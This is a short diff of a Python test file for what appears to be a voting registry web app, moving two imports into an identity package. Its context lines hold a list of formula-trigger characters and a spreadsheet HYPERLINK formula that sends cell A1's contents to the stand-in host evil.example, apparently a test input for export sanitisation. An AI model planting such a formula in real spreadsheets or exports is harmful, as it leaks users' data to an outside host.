@@ -13,8 +13,8 @@ import pytest
 
 from tests.web.site import Browser, Site
 from voting.registry.models import Affiliation, Person, Unit
-from web.entries import ACCOUNTS_CREATED
-from web.roles import Role
+from web.identity.entries import ACCOUNTS_CREATED
+from web.identity.roles import Role
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
